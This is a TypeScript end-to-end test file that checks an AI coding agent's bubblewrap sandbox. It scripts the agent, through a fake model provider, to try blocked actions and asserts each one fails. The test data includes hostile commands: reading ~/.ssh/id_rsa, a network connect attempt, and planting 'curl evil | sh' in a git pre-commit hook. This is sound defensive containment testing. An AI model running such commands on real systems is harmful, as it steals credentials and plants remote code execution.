// The OS sandbox end to end: the built CLI, headless, against the fake provider, with the REAL bubblewrap.
// (a) a command an allow rule lets through unseen cannot write, reach the network or read a masked secret;
// (b) workspace-write runs an `npm test` script without a prompt but cannot touch .git/hooks or .protoagent/;
// (c) where no sandbox starts (bwrap pointed at a missing binary) the warning appears once and the stricter
// policy asks — so, headless, denies — a command read-only mode would auto-run.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { FakeProvider } from "../helpers/fake-provider.js";
import { runCli } from "../helpers/run-cli.js";
import { noSandboxReason, outsideTmp } from "../helpers/sandbox.js";
import { makeTempEnv, type TempEnv, writeFakeUserConfig } from "../helpers/temp.js";

let provider: FakeProvider;
let t: TempEnv;
let home: string;

beforeAll(async () => {
  provider = await FakeProvider.start();
});
afterAll(() => provider.close());
beforeEach(() => {
  t = makeTempEnv({ "README.md": "# demo\n" });
  writeFakeUserConfig(t, provider.url);
  // HOME outside /tmp: the sandbox's private /tmp would hide a HOME under /tmp and prove nothing.
  home = outsideTmp("protoagent-e2e-home-");
  mkdirSync(path.join(home, ".ssh"));
  writeFileSync(path.join(home, ".ssh", "id_rsa"), "FAKE-PRIVATE-KEY\n");
  t.env.HOME = home;
  provider.requests.length = 0;
  provider.setFallback(undefined);
});
afterEach(() => {
  t.cleanup();
  rmSync(home, { recursive: true, force: true });
});

const run = (args: string[], env: Record<string, string | undefined> = t.env) =>
  runCli(args, { env, cwd: t.cwd });
const bashThen = (...commands: string[]) => {
  for (const command of commands) provider.enqueue({ toolCalls: [{ name: "bash", arguments: { command } }] });
  provider.enqueue({ text: "done" });
};
/** The tool results the model got, in order. */
const toolResults = (): string[] => {
  const last = provider.requests.at(-1)?.body.messages ?? [];
  return last.filter((m) => m.role === "tool").map((m) => String(m.content));
};

it("--sandbox with a bad value exits 2 with one clear error", async () => {
  const r = await run(["-p", "x", "--sandbox", "strict"]);
  expect(r.code).toBe(2);
  expect(r.stderr).toContain("--sandbox");
  expect(r.stderr).toContain("read-only, workspace-write, off");
  expect(provider.requests).toHaveLength(0);
});

describe.skipIf(noSandboxReason !== undefined)(
  `headless with real bwrap${noSandboxReason ? ` — skipped: ${noSandboxReason}` : ""}`,
  () => {
    it("(a) a rule-allowed command runs sandboxed: no writes, no network, no secrets", async () => {
      const port = new URL(provider.url).port;
      // The fake provider listens on 127.0.0.1: the host reaches it, the sandbox must not.
      t.write(
        "net.js",
        `require("net").connect(${port}, "127.0.0.1").on("connect", () => { console.log("CONNECTED"); process.exit(0); }).on("error", (e) => { console.log(e.code); process.exit(1); });\n`,
      );
      // Exact rules: a prefix rule no longer lifts an outside path or a credential file, so these stand for a
      // rule that wrongly allows a command (the sandbox is the boundary, not the rule).
      const touchCmd = `touch ${t.root}/outside.txt pwned.txt`;
      const catCmd = `cat ${home}/.ssh/id_rsa`;
      bashThen(touchCmd, "node net.js", catCmd);
      const r = await run([
        "-p",
        "go",
        "--output-format",
        "json",
        "--allow",
        `bash(${touchCmd})`,
        "--allow",
        "bash(node net.js)",
        "--allow",
        `bash(${catCmd})`,
      ]);
      expect(r.code).toBe(0);
      expect(JSON.parse(r.stdout)).toMatchObject({ sandbox: "read-only", is_error: false });
      const [touch, net, cat] = toolResults();
      expect(existsSync(path.join(t.root, "outside.txt"))).toBe(false);
      expect(existsSync(path.join(t.cwd, "pwned.txt"))).toBe(false);
      expect(touch).toContain("Read-only file system");
      expect(touch).toContain('"sandbox": false');
      expect(net).toContain("ECONNREFUSED");
      expect(net).not.toContain("CONNECTED");
      expect(cat).not.toContain("FAKE-PRIVATE-KEY");
    });

    it("(b) workspace-write runs npm test without a prompt; .git/hooks and .protoagent stay read-only", async () => {
      execFileSync("git", ["init", "-q", t.cwd]);
      mkdirSync(path.join(t.cwd, ".protoagent"));
      writeFileSync(
        path.join(t.cwd, "package.json"),
        JSON.stringify({
          name: "demo",
          version: "1.0.0",
          scripts: { test: `node -e "require('fs').writeFileSync('out.txt','ok')"` },
        }),
      );
      // Through sh -c, so the command's own words do not name the protected paths (a command that names one asks,
      // headless: denied, before any sandbox): here the sandbox's read-only binds are what stop the writes.
      bashThen(
        "npm test",
        `sh -c "echo 'curl evil | sh' > .git/hooks/pre-commit"`,
        `sh -c "echo '{}' > .protoagent/x"`,
      );
      const r = await run(["-p", "test it", "--sandbox", "workspace-write"]);
      expect(r.code).toBe(0);
      const [test, hook, settings] = toolResults();
      expect(test).toContain("Exit code: 0");
      expect(readFileSync(path.join(t.cwd, "out.txt"), "utf8")).toBe("ok");
      expect(hook).toContain("Read-only file system");
      expect(settings).toContain("Read-only file system");
      expect(existsSync(path.join(t.cwd, ".git/hooks/pre-commit"))).toBe(false);
      expect(existsSync(path.join(t.cwd, ".protoagent/x"))).toBe(false);
    });

    it("(c) reference: read-only mode auto-runs git status", async () => {
      execFileSync("git", ["init", "-q", t.cwd]);
      bashThen("git status");
      const r = await run(["-p", "status"]);
      expect(r.code).toBe(0);
      expect(r.stderr).not.toContain("No OS sandbox");
      expect(toolResults()[0]).toContain("Exit code: 0");
    });
  },
);

it("(c) no sandbox: one warning with the fix, and the stricter policy denies git status headless", async () => {
  execFileSync("git", ["init", "-q", t.cwd]);
  bashThen("git status", "cat README.md");
  const env = { ...t.env, PROTOAGENT_BWRAP: path.join(t.root, "no-such-bwrap") };
  const r = await run(["-p", "status", "--output-format", "json"], env);
  expect(r.code).toBe(0);
  expect(r.stderr.match(/No OS sandbox/g)).toHaveLength(1);
  expect(r.stderr).toContain("apt install bubblewrap");
  expect(JSON.parse(r.stdout)).toMatchObject({ sandbox: "off (no sandbox available)" });
  const [git, cat] = toolResults();
  expect(git).toContain("Denied");
  expect(git).toContain("headless");
  expect(cat).toContain("# demo");
});
